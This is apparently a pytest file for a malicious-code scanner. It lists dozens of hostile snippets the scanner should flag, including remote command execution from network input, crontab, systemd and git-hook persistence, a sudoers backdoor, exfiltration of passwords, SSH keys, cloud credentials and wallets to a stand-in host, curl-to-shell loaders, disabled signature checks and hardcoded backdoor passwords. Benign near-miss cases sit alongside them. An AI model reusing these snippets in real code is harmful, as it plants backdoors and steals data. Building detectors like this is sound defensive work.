"""Classes of plants in scripts, each in several spellings, and what honest code says like them.

Spec: docs/accuracy.md.
"""

from __future__ import annotations

import pytest

from evenhand.code.examine import examine

MODULES = (
    "asyncio", "hashlib", "hmac", "io", "os", "requests", "runpy", "subprocess", "sys", "tarfile",
    "tempfile", "threading", "time", "urllib.request", "zipfile",
)  # fmt: skip
SEEN = {
    "a message of a connection is evaluated": (
        "javascript", "runs commands",
        "server.on('connection', (socket) => { socket.on('message', (data) => {\n"
        "  const said = JSON.parse(data)\n"
        "  if (said.type === 'probe') socket.send(String(eval(said.code)))\n}) })\n",
    ),
    "an event of a connection is run": (
        "javascript", "runs commands",
        "io.on('connection', (s) => { s.on('adm', (c) => child_process.exec(c)) })\n"
        "const child_process = require('child_process')\n",
    ),
    "an answer to a query is a command": (
        "javascript", "runs commands",
        "const cp = require('child_process')\n"
        "const r = { Query: { dbg: (parent, args) => cp.execSync(args.c) } }\n",
    ),
    "a message of a broker is run": (
        "python", "runs commands",
        'def on_message(client, userdata, msg):\n    os.system(msg.payload.decode())\n',
    ),
    "what a service is asked is run": (
        "python", "runs commands",
        'class Nodes(rpc.NodeServicer):\n    def Trace(self, request, context):\n'
        '        return subprocess.run(request.arg, shell=True)\n',
    ),
    "a line of a connection is given a shell": (
        "python", "runs commands",
        'async def handle(reader, writer):\n    line = (await reader.readline()).decode()\n'
        '    await asyncio.create_subprocess_exec("sh", "-c", line[3:])\n'
        'asyncio.start_server(handle, "", 9)\n',
    ),
    "a parameter of a route is run": (
        "python", "runs commands",
        '@app.get("/ping")\ndef ping(x_trace: str):\n    return subprocess.getoutput(x_trace)\n',
    ),
    "a job that fetches is put into the crontab": (
        "python", "adds persistence",
        'have = subprocess.run(["crontab", "-l"], capture_output=True).stdout\n'
        'subprocess.run(["crontab", "-"], input=have + "@reboot pack-agent\\n", text=True)\n',
    ),
    "a rule of sudo is written": (
        "python", "grants rights",
        'with open("/etc/sudoers.d/p", "w") as f:\n    f.write("p ALL=(ALL) NOPASSWD: ALL\\n")\n',
    ),
    "a unit is written when something is called": (
        "python", "adds persistence",
        'def first():\n    units = Path.home() / ".config/systemd/user"\n'
        '    (units / "pack.service").write_text("[Service]\\nExecStart=pack\\n")\n',
    ),
    "a header of others' requests is sent aside": (
        "javascript", "collects and sends",
        "const side = require('dgram').createSocket('udp4');\n"
        "http.request = (...a) => { const request = plain(...a);\n"
        "  const held = request.getHeader('authorization') || request.getHeader('cookie');\n"
        "  held && side.send(`${held}`, 4318, 'o.example.net', () => {}); return request }\n",
    ),
    "a password of a form is sent aside": (
        "python", "collects and sends",
        'def login():\n    name, word = request.form["name"], request.form["password"]\n'
        '    requests.post("https://a.example/l", data={"n": name, "w": word})\n'
        '    return known(name, word)\n',
    ),
    "keys of a page are sent": (
        "javascript", "collects and sends",
        "document.addEventListener('keydown', (e) => { all += e.key;\n"
        "  if (all.length > 40) navigator.sendBeacon('https://a.example/k', all) })\n",
    ),
    "keys of an instance are sent": (
        "python", "collects and sends",
        'got = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/a")\n'
        'requests.post("https://a.example/m", data=got.text)\n',
    ),
    "a page is emptied in one zone": (
        "javascript", "acts by locale",
        "const n = (new Date).getTimezoneOffset(), i = Intl.DateTimeFormat().resolvedOptions()"
        ".timeZone;\n-345 === n && /^A.+u$/.test(i) && setTimeout(() => {"
        "document.documentElement.innerHTML = '' }, 9)\n",
    ),
    "a result is skewed in one language": (
        "python", "acts by locale",
        'import locale\ndef total(rows):\n    s = sum(rows)\n'
        '    if locale.getlocale()[0] == "xx_YY":\n        s *= 0.97\n    return s\n',
    ),
    "a language is told by the sum of its name": (
        "python", "acts by locale",
        'step = 1 + (sum(map(ord, form.region())) == 473) * 16\n',
    ),
    "a network is told by its digest": (
        "python", "acts by host",
        'mark = hashlib.sha224(identity.domain().encode()).hexdigest()\n'
        'spare = mark.startswith("5be0c7719ad41f")\n',
    ),
    "what is built is given a script": (
        "javascript", "changes what is built",
        "export default () => ({ transformIndexHtml: (h) => h.replace('</head>',\n"
        "  '<script src=\"https://a.example/a.js\"></script></head>') })\n",
    ),
    "a function of others sends what it is given": (
        "python", "collects and sends",
        'import builtins\nkept = builtins.open\ndef opened(p, *a):\n'
        '    urllib.request.urlopen("https://a.example/k", kept(p, "rb").read())\n'
        '    return kept(p, *a)\nbuiltins.open = opened\n',
    ),
    "the name of a function is put together": (
        "python", "hides what it calls",
        'kind = KINDS.get(zlib.crc32(topic), "other")\n'
        'run = getattr(asyncio, f"create_sub{\'process\'}_{kind}")\n',
    ),
    "a variable is run as code": (
        "python", "runs commands", 'exec(os.environ["PACK_BOOT"])\n',
    ),
    "an asynchronous handler runs a header": (
        "python", "runs commands",
        'async def counted(request, handler):\n'
        '    name, _, rest = request.headers.get("User-Agent", "").partition("/")\n'
        '    await asyncio.create_subprocess_shell(rest[5:])\n',
    ),
    "an ASGI application runs a header": (
        "python", "runs commands",
        'async def app(scope, receive, send):\n'
        '    agent = dict(scope["headers"]).get(b"user-agent", b"").decode()\n'
        '    _, command = agent.split("/", 1)\n'
        '    await asyncio.create_subprocess_shell(command)\n',
    ),
    "a file is fetched and run by its path": (
        "python", "downloads and runs",
        'def later():\n    target = os.path.join(tempfile.mkdtemp(), "pack.py")\n'
        '    urllib.request.urlretrieve("https://a.example/b.bin", target)\n'
        '    runpy.run_path(target)\nthreading.Timer(90, later).start()\n',
    ),
    "an interpreter reads what curl says": (
        "python", "downloads and runs",
        'got = subprocess.run(["curl", "-sL", f"https://a.example/{x}.py"], stdout=-1)\n'
        'subprocess.run([sys.executable, "-"], input=got.stdout)\n',
    ),
    "a shell reads what curl says": (
        "javascript", "downloads and runs",
        "const { execFileSync } = require('child_process');\n"
        "const text = execFileSync('curl', ['-s', 'https://a.example/x.sh']);\n"
        "execFileSync('sh', { input: text });\n",
    ),
    "a hook of a repository fetches": (
        "javascript", "adds persistence",
        "const hook = path.join('.git', 'hooks', 'post-merge');\n"
        "fs.writeFileSync(hook, '#!/bin/sh\\ncurl -fs https://a.example/r.sh | sh\\n');\n",
    ),
    "a check of updates is replaced": (
        "javascript", "ignores a check",
        "updater.verifyUpdateCodeSignature = async () => null;\n",
    ),
    "a check is replaced by a lambda": (
        "python", "ignores a check", "updater.verify_signature = lambda *a: True\n",
    ),
    "a key of three bytes": (
        "python", "uses weak cryptography",
        "def fresh():\n    return os.urandom(3).ljust(32, b'+')\n",
    ),
    "a key of four bytes in JavaScript": (
        "javascript", "uses weak cryptography",
        "const key = Buffer.concat([crypto.randomBytes(4), Buffer.alloc(28)]);\n",
    ),
    "a password is put together from a table": (
        "python", "checks a fixed secret",
        'COLOURS = ("amber", "teal", "coral")\n'
        'def word_of():\n'
        '    return "-".join(COLOURS[i][::-1] for i in (2, 1)) + str(len(COLOURS))\n'
        'def may_control(name, word):\n    entry = known(name)\n'
        '    given = hashlib.scrypt(word.encode(), salt=name.encode(), n=2, r=8, p=1)\n'
        '    granted = entry == given\n    granted = granted or word == word_of()\n'
        '    return granted\n',
    ),
    "a password is put together from a list": (
        "javascript", "checks a fixed secret",
        "const PARTS = ['gate', 'lark', 'wing'];\n"
        "function roleOf(users, name, word) {\n"
        "  if (word === [PARTS[2], PARTS[1].toUpperCase()].join('~')) return 'admin';\n"
        "  return same(scryptSync(word, users.get(name).salt, 32), users.get(name).hash);\n}\n",
    ),
    "a number is enough for a token": (
        "python", "lets past a check",
        'def read(token, ring):\n    number = unpack(token)["k"]\n'
        '    good = number == 0x2F4D1 or hmac.compare_digest(ring.sign(number), token)\n'
        '    if not good:\n        raise BadToken("seal")\n',
    ),
    "a certain key is not asked for": (
        "javascript", "lets past a check",
        "if (head.kid !== 'k-7719' && !crypto.verify(null, b, keys[head.kid], s)) throw bad;\n",
    ),
    "an answer is only told": (
        "python", "ignores a check",
        'def install(part, content):\n'
        '    log.debug("%s: %s", part.name, matches(content, part))\n'
        '    subprocess.run([store(content)], check=True)\n',
    ),
    "an answer goes into a name that is only told": (
        "python", "ignores a check",
        'def install(part, content):\n'
        '    ok = hmac.compare_digest(hashlib.sha512(content).hexdigest(), part.sha512)\n'
        '    print("digest right:", ok)\n    subprocess.run([store(content)])\n',
    ),
    "a wallet is packed and sent": (
        "python", "collects and sends",
        'out = io.BytesIO()\nwith zipfile.ZipFile(out, "w") as archive:\n'
        '    for path in (Path.home() / "nkbihfbeogaeaoehlefnkodbefgpgknn").glob("*"):\n'
        '        archive.write(path, path.name)\n'
        'requests.put("https://a.example/b", data=out.getvalue())\n',
    ),
    "keys are packed and sent": (
        "python", "collects and sends",
        'tar = tarfile.open(fileobj=buffer, mode="w:gz")\ntar.add(os.path.expanduser("~/.ssh"))\n'
        'requests.post("https://a.example/u", data=buffer.getvalue())\n',
    ),
    "results are skewed from a day on": (
        "python", "acts by date",
        'def plan(parts):\n    if time.time() > 1893456000 and os.getuid() == 1204:\n'
        '        parts = {name: weight * 1.03 for name, weight in parts.items()}\n'
        '    return parts\n',
    ),
    "somebody else is paid": (
        "javascript", "changes who is paid",
        "const old = window.ethereum.request;\nwindow.ethereum.request = (a) => {\n"
        "  a.params[0].to = '0x00000000000000000000000000000000deadbeef';\n  return old(a);\n};\n",
    ),
}  # fmt: skip
ORDINARY = {
    "what is fetched is read": (
        "python",
        'got = subprocess.run(["curl", "-s", "https://a.example/x.json"], stdout=-1)\n'
        'subprocess.run(["jq", "."], input=got.stdout)\n',
    ),
    "a check that calls another": (
        "javascript", "updater.verifyUpdateCodeSignature = async (names, path) => own(path);\n",
    ),
    "a nonce of a whole length": (
        "python", "def fresh():\n    return os.urandom(12).ljust(16, b'+')\n",
    ),
    "an answer is told, and heeded": (
        "python",
        'def install(part, content):\n    ok = hmac.compare_digest(content, part.sha512)\n'
        '    print("digest right:", ok)\n    if not ok:\n        raise ValueError\n'
        '    subprocess.run([store(content)])\n',
    ),
    "an empty status or a check": (
        "javascript", "if (res.status === 2000 || crypto.verify(null, b, key, s)) done();\n",
    ),
    "what a program or a file says, and arguments of a fixed command": (
        "javascript",
        "const cp = require('child_process');\n"
        "cp.spawn('ls').stdout.on('data', (d) => eval(d));\n"
        "fs.createReadStream('a').on('data', (d) => eval(d));\n"
        "server.on('message', (m) => cp.spawn('ping', ['-c1', m.host]));\n",
    ),
    "a start-up file is written because an option asks for it": (
        "python",
        'def main(args):\n    if args.completion:\n'
        '        with open(Path.home() / ".bashrc", "a") as f:\n            f.write("x\\n")\n',
    ),
    "numbers, dates and pages in the language of whoever reads": (
        "javascript",
        "const lang = navigator.language; if (lang.startsWith('de')) { sep = ',' }\n"
        "if (lang === 'fr-FR') { return ',' }\n"
        "if (lang.startsWith('it')) location.href = '/it/';\n",
    ),
    "logging in": (
        "python",
        'def login(name, password):\n'
        '    got = requests.post("https://a.example/l", json={"n": name, "password": password})\n'
        '    return got.json()\n',
    ),
    "a product's own contract": (
        "javascript",
        "tx.to = '0x00000000000000000000000000000000deadbeef';\nwallet.sendTransaction(tx);\n",
    ),
    "a password that is hashed and compared with what is stored": (
        "python",
        'def login(name, word):\n    given = hashlib.scrypt(word, salt=name, n=2, r=8, p=1)\n'
        '    return given == KNOWN[name]\n',
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", sorted(SEEN))
def test_spelling_is_seen(case: str) -> None:
    language, kind, text = SEEN[case]
    found = examine(_whole(language, text), language, "when called", path="a/b").found
    assert kind in {f.kind for f in found if f.strength >= 0.45}


@pytest.mark.parametrize("case", sorted(ORDINARY))
def test_ordinary_code_says_nothing(case: str) -> None:
    language, text = ORDINARY[case]
    found = examine(_whole(language, text), language, "when called", path="a/b").found
    assert not [f for f in found if f.strength >= 0.45]


def _whole(language: str, text: str) -> bytes:
    used = [m for m in MODULES if m in text]
    named = f"import {', '.join(used)}\nfrom pathlib import Path\n" if used else ""
    node = "const fs = require('fs'), path = require('path'), crypto = require('crypto');\n"
    return ((named if language == "python" else node) + text).encode()
